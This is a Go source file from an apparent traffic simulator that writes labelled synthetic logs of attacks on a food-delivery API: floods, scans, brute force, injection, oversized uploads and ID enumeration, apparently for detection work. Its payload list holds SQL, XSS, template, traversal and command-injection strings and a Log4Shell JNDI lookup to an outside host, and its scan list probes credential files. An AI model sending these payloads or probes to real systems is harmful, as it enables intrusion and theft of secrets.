package main

import (
	"math/rand/v2"
	"strconv"
	"strings"

	. "github.com/portcullis/portcullis/tools/internal/simlog"
)

// Where attackers send from.
const (
	fromProxy   = iota // a residential proxy: somebody's home line
	fromCarrier        // a phone's carrier range, next to the city's NAT
	fromV6             // a phone's IPv6 address
	fromVPS            // a rented server
)

// hostile registers an attacker's address of kind.
func (w *world) hostile(r *rand.Rand, kind string, from int) *Client {
	var ip string
	switch from {
	case fromProxy:
		ip = w.log.V4(r, []string{"73.", "24.", "71.", "98.", "68.", "84.", "87.", "90.", "92.", "178.", "181.", "187.", "189.", "41.", "102.", "110.", "182.", "36."})
	case fromCarrier:
		ip = w.log.V4(r, w.carrierV4)
	case fromV6:
		ip = w.log.V6In(r, V6Net(r, append([]string{"2a02:8109:", "2601:", "2406:"}, w.carrierV6...)))
	default:
		ip = w.log.V4(r, []string{"45.", "89.", "91.", "139.", "159.", "165.", "167.", "185.", "193.", "194.", "5."})
	}
	return w.log.Client(ip, kind)
}

// from draws where an attacker sends from, out of ws weights for proxy,
// carrier, IPv6 and server.
func from(r *rand.Rand, ws ...float64) int { return Weighted(r, ws) }

// attacker returns an actor whose every request is part of the attack.
func (w *world) attacker(r *rand.Rand, c *Client, ua, user string) *actor {
	a := w.actor(r, fixedAt(c), ua, user)
	a.attack = true
	return a
}

// appUA draws the user agent of a genuine-looking phone of the app.
func (w *world) appUA(r *rand.Rand) string {
	p := &phone{}
	w.dress(r, p)
	return p.ua
}

// lookalike draws the user agent of an attacker who tries to pass for the
// app, a browser, or an HTTP library.
func (w *world) lookalike(r *rand.Rand) string {
	switch x := r.Float64(); {
	case x < .6:
		return w.appUA(r)
	case x < .8:
		return browserUA(r)
	}
	return Pick(r, []string{"okhttp/4.12.0", "okhttp/4.9.3", "Dalvik/2.1.0 (Linux; U; Android 13; SM-A546B Build/TP1A.220624.014)", "python-requests/2.31.0", "Go-http-client/2.0"})
}

// when draws an attack's start and end inside the window, no longer than
// lo to hi seconds, so that short recordings still hold the attack.
func (w *world) when(r *rand.Rand, lo, hi float64) (a, b int64) {
	secs := float64(w.W) / 1e9
	a = Sec(Uniform(r, .03, .7) * secs)
	return a, min(a+Sec(Uniform(r, lo, hi)), w.W)
}

// flood is one address hammering a few ordinary endpoints, with the same
// query each time, at ten to two hundred requests a second.
func (w *world) flood(r *rand.Rand) {
	c := w.hostile(r, "flood", from(r, 3, 3, 2, 2))
	user := ""
	if Chance(r, .5) {
		user = w.customer(r)
	}
	ua := w.appUA(r)
	if Chance(r, .2) {
		ua = Pick(r, []string{"okhttp/4.12.0", "Dalvik/2.1.0 (Linux; U; Android 14; Pixel 8 Build/AP2A.240805.005)"})
	}
	a := w.attacker(r, c, ua, user)
	rest := strconv.Itoa(w.restaurant(r))
	all := []string{"/v2/home/feed?" + w.near(r), "/v2/config?platform=android&version=" + appVersions()[0], "/v2/restaurants/" + rest + "/menu", "/v2/restaurants/" + rest, "/v2/search?q=" + Pick(r, searchTerms()[:8]) + "&" + w.near(r), "/v2/promos/banners"}
	targets := pickN(r, all, 1+r.IntN(3))
	rate := LogUniform(r, 10, 200)
	t0, t1 := w.when(r, 45, 300)
	Poisson(r, rate, t0, t1, func(t int64) {
		st := 200
		if Chance(r, rate/4000) {
			st = 503
		}
		a.get(t, Pick(r, targets), st, 20000, 60)
	})
	a.flush()
}

// scanPaths is what scanners ask a JSON API for: documentation, debug and
// admin routes, leaked files, other versions of the API, and the usual
// paths of software the site does not run.
func scanPaths(r *rand.Rand) []string {
	var ps []string
	for _, pre := range []string{"", "/v1", "/v2", "/v3", "/api", "/api/v1", "/internal", "/admin"} {
		for _, word := range []string{"users", "admin", "config", "debug", "swagger.json", "openapi.json", "api-docs", "actuator/health", "actuator/env", ".env", "backup.zip", "export", "graphiql", "console", "metrics", "status", "login", "register", "upload", "files", "private", "test", "staging", "tokens", "keys", "settings", "users/export", "orders/all", "drivers/all", "debug/pprof/"} {
			ps = append(ps, pre+"/"+word)
		}
	}
	ps = append(ps, "/.git/config", "/.git/HEAD", "/.aws/credentials", "/.DS_Store", "/wp-login.php", "/wp-admin/", "/phpmyadmin/index.php", "/server-status",
		"/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "/cgi-bin/luci", "/owa/auth/logon.aspx", "/solr/admin/info/system", "/v2/_catalog",
		"/config.json", "/.well-known/openid-configuration", "/graphql?query=%7B__schema%7Btypes%7Bname%7D%7D%7D", "/hooks/test", "/v2/driver/admin", "/v2/merchant/all")
	r.Shuffle(len(ps), func(i, j int) { ps[i], ps[j] = ps[j], ps[i] })
	return ps
}

// scanStatus is how the API answers a probed path.
func scanStatus(path string) int {
	switch {
	case strings.HasPrefix(path, "/admin/api") || path == "/v2/admin" || path == "/v2/users":
		return 401
	case strings.HasPrefix(path, "/graphql?"):
		return 400
	case path == "/v2/config" || path == "/.well-known/openid-configuration":
		return 200
	}
	return 404
}

// scan probes one path after another from a list, fast with a tool or
// slowly to stay under the radar, with the tool's own user agent or a
// borrowed one.
func (w *world) scan(r *rand.Rand) {
	c := w.hostile(r, "scan", from(r, 2, 1, 1, 6))
	ua := Pick(r, []string{
		"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/109.0.0.0 Safari/537.36",
		"Mozilla/5.0 (compatible; Nuclei - Open-source project (github.com/projectdiscovery/nuclei))",
		"Fuzz Faster U Fool v2.1.0-dev", "gobuster/3.6", "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000003)",
		"Mozilla/5.0 zgrab/0.x", "curl/8.5.0",
	})
	if Chance(r, .35) {
		ua = w.lookalike(r)
	}
	a := w.attacker(r, c, ua, "")
	paths := scanPaths(r)
	n := min(len(paths), 60+r.IntN(len(paths)))
	rate := LogUniform(r, 3, 40)
	if Chance(r, .35) {
		rate = Uniform(r, .2, 1.5)
	}
	t, end := w.when(r, 60, 900)
	for _, p := range paths[:n] {
		if t >= end {
			break
		}
		a.get(t, p, scanStatus(p), 0, 4)
		t += Sec(r.ExpFloat64() / rate)
	}
	a.flush()
}

// bruteforce guesses one account's password, or the code texted to a
// phone, fast at first or throughout, or slowly, one guess every few
// seconds; a few get in at the end.
func (w *world) bruteforce(r *rand.Rand) {
	c := w.hostile(r, "bruteforce", from(r, 4, 2, 2, 2))
	a := w.attacker(r, c, Pick(r, []string{w.appUA(r), "okhttp/4.12.0", "python-requests/2.31.0", browserUA(r)}), "")
	otp := Chance(r, .45)
	t, end := w.when(r, 120, 600)
	fast, slow := LogUniform(r, 1.5, 8), Uniform(r, 2, 8)
	fastUntil := t + Sec(Uniform(r, 20, 120))
	switch r.IntN(3) {
	case 0:
		fastUntil = end
	case 1:
		fastUntil = t
	}
	if otp {
		a.post(t, "/v2/auth/otp/send", 202, 120, 90, 260)
		t += Sec(Uniform(r, 1, 5))
	}
	for t < end {
		if otp {
			a.post(t, "/v2/auth/otp/verify", Pick(r, []int{400, 400, 401}), 90, 140, 30)
		} else {
			a.post(t, "/v2/auth/login", 401, 380, 150, 180)
		}
		if t < fastUntil {
			t += Sec(r.ExpFloat64() / fast)
		} else {
			t += Sec(slow * Uniform(r, .6, 1.4))
		}
	}
	if Chance(r, .1) {
		if otp {
			a.post(t, "/v2/auth/otp/verify", 200, 90, 1100, 45)
		} else {
			a.post(t, "/v2/auth/login", 200, 380, 1200, 190)
		}
	}
	a.flush()
}

// payloads are injection attempts as they are typed into a query value:
// SQL, script, template, path traversal, NoSQL and lookup strings.
func payloads() []string {
	return []string{
		"' OR '1'='1", "1' OR 1=1-- -", "1' AND SLEEP(5)-- -", "' UNION SELECT NULL,table_name FROM information_schema.tables-- -",
		"1;SELECT pg_sleep(5)--", "') OR ('a'='a", "1 AND 1=CONVERT(int,@@version)", "admin'--",
		"<script>alert(1)</script>", "\"><img src=x onerror=alert(document.domain)>", "<svg/onload=confirm(1)>", "javascript:alert(1)//",
		"{{7*7}}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "{{constructor.constructor('return process')()}}",
		"../../../../etc/passwd", "..%2f..%2f..%2f..%2fetc%2fpasswd", "....//....//....//etc/passwd", "/proc/self/environ",
		"{\"$ne\":null}", "{\"$gt\":\"\"}", "${jndi:ldap://x7k2.oast.fun/a}", "|id", "`id`", ";cat /etc/passwd",
	}
}

// injectable are routes whose last query value an attacker fills with a
// payload.
func (w *world) injectable(r *rand.Rand) []string {
	rest := strconv.Itoa(w.restaurant(r))
	return []string{
		"/v2/search?" + w.near(r) + "&q=", "/v2/restaurants?" + w.near(r) + "&cuisine=", "/v2/orders?page=1&status=",
		"/v2/restaurants/" + rest + "/reviews?page=", "/v2/promos/banners?locale=", "/v2/restaurants?" + w.near(r) + "&sort=",
		"/v2/restaurants/" + rest + "/menu?lang=", "/v2/merchant/orders?store=" + rest + "&since=",
	}
}

// inject returns path with its last query value replaced by an encoded
// payload, or a payload sent to one of the injectable routes when path has
// no query.
func (w *world) inject(r *rand.Rand, path string) string {
	p := EncodeQuery(r, Pick(r, payloads()), w.raw, .35, .85)
	if i := strings.LastIndexByte(path, '='); i > 0 && strings.IndexByte(path, '?') > 0 {
		return path[:i+1] + p
	}
	return Pick(r, w.injectable(r)) + p
}

// injectStatus is how the API answers a payload: rejected by validation,
// answered as an ordinary (empty) result, or now and then an error.
func injectStatus(r *rand.Rand) int {
	switch x := r.Float64(); {
	case x < .45:
		return 400
	case x < .88:
		return 200
	}
	return 500
}

// injection is either a tool trying payload after payload on the routes
// that take query values, or a person in a signed-in app session, behind
// an intercepting proxy, slipping payloads into 15 to 40 % of the requests
// the app sends anyway. Only the requests that carry a payload are the
// attack.
func (w *world) injection(r *rand.Rand) {
	c := w.hostile(r, "injection", from(r, 4, 2, 2, 3))
	if Chance(r, .5) {
		ua := Pick(r, []string{"sqlmap/1.8.7#stable (https://sqlmap.org)", browserUA(r), w.appUA(r), "Mozilla/5.0 (compatible; Nuclei - Open-source project (github.com/projectdiscovery/nuclei))"})
		a := w.attacker(r, c, ua, "")
		if Chance(r, .5) {
			a.user = w.customer(r)
		}
		share := Uniform(r, .7, 1)
		rate := LogUniform(r, .8, 8)
		t, end := w.when(r, 60, 300)
		for ; t < end; t += Sec(r.ExpFloat64() / rate) {
			if Chance(r, share) {
				a.get(t, w.inject(r, Pick(r, w.injectable(r))), injectStatus(r), 3000, 60)
			} else {
				a.attack = false
				a.get(t, Pick(r, w.injectable(r))+Pick(r, []string{"1", "pizza", "delivered", "en", "rating"}), 200, 8000, 50)
				a.attack = true
			}
		}
		a.flush()
		return
	}
	p := &phone{user: w.customer(r), profile: "app"}
	w.dress(r, p)
	s := &session{actor: w.actor(r, fixedAt(c), p.ua, p.user), p: p}
	t, end := w.when(r, 120, 600)
	for t < end {
		t = s.open(t)
		for range 5 + r.IntN(20) {
			t = s.browse(t + Sec(LogNormal(r, 4, .7)))
		}
		t += Sec(Uniform(r, 5, 40))
	}
	share := Uniform(r, .15, .4)
	taint := func(e *Event) {
		e.Attack = true
		e.Method, e.Path, e.Status = "GET", w.inject(r, e.Path), injectStatus(r)
		e.ReqBytes, e.RespBytes = int64(LogNormal(r, 980, .06)), int64(LogNormal(r, 2000, .6))
	}
	n := 0
	for i := range s.buf {
		if e := &s.buf[i]; e.T < end && Chance(r, share) {
			taint(e)
			n++
		}
	}
	if n == 0 {
		taint(&s.buf[0]) // the session's first request, at its start
	}
	s.flush()
}

// upload sends files of 20 to 150 MB a few times a minute to the photo
// and document endpoints, from what passes for a driver's app; most are
// refused for their size once the gateway has read enough of them.
func (w *world) upload(r *rand.Rand) {
	c := w.hostile(r, "upload", from(r, 3, 3, 3, 1))
	a := w.attacker(r, c, driverUA(r), "drv"+strconv.Itoa(20000+r.IntN(9000)))
	t, end := w.when(r, 120, 480)
	for q := t; q < end; q += Sec(Uniform(r, 4, 5)) {
		a.attack = false
		a.post(q, "/v2/driver/location", 200, 240, 60, 18)
	}
	a.attack = true
	job := "/v2/driver/jobs/" + strconv.FormatInt(w.order(r, t), 10) + "/proof"
	for ; t < end; t += Sec(Uniform(r, 10, 30)) {
		size := LogUniform(r, 20e6, 150e6)
		path := Pick(r, []string{job, "/v2/uploads/documents", "/v2/uploads/receipts"})
		if Chance(r, .7) {
			a.call(t, "POST", path, 413, size, 120, Uniform(r, 300, 4000))
		} else {
			a.call(t, "POST", path, 201, size, 300, size*8/(Uniform(r, 20, 100)*1e6)*1000)
		}
	}
	a.flush()
}

// enumeration walks ids in sequence (now and then skipping a few) on a
// route that answers only for the caller's own records: most answers are
// 403 or 404, and the few 200s are what the attacker is after.
func (w *world) enumeration(r *rand.Rand) {
	c := w.hostile(r, "enumeration", from(r, 4, 2, 2, 2))
	a := w.attacker(r, c, Pick(r, []string{w.appUA(r), "okhttp/4.12.0", "python-requests/2.31.0", "PostmanRuntime/7.41.0"}), w.customer(r))
	t, end := w.when(r, 60, 400)
	rate := LogUniform(r, .5, 8)
	var route func(id int64) string
	forbid, missing := .7, .22
	id := w.orderBase - int64(r.IntN(200000))
	switch r.IntN(3) {
	case 0:
		route = func(id int64) string { return "/v2/orders/" + strconv.FormatInt(id, 10) }
	case 1:
		route = func(id int64) string { return "/v2/orders/" + strconv.FormatInt(id, 10) + "/receipt.pdf" }
	default:
		id = int64(1 + r.IntN(w.users))
		route = func(id int64) string { return "/v2/users/" + strconv.FormatInt(id, 10) + "/profile" }
		forbid, missing = .55, .3
	}
	step := int64(1)
	if Chance(r, .3) {
		step = -1
	}
	for ; t < end; t += Sec(r.ExpFloat64() / rate) {
		st := 200
		if x := r.Float64(); x < forbid {
			st = 403
		} else if x < forbid+missing {
			st = 404
		}
		a.get(t, route(id), st, 2500, 30)
		id += step
		if Chance(r, .1) {
			id += step * int64(1+r.IntN(5))
		}
	}
	a.flush()
}
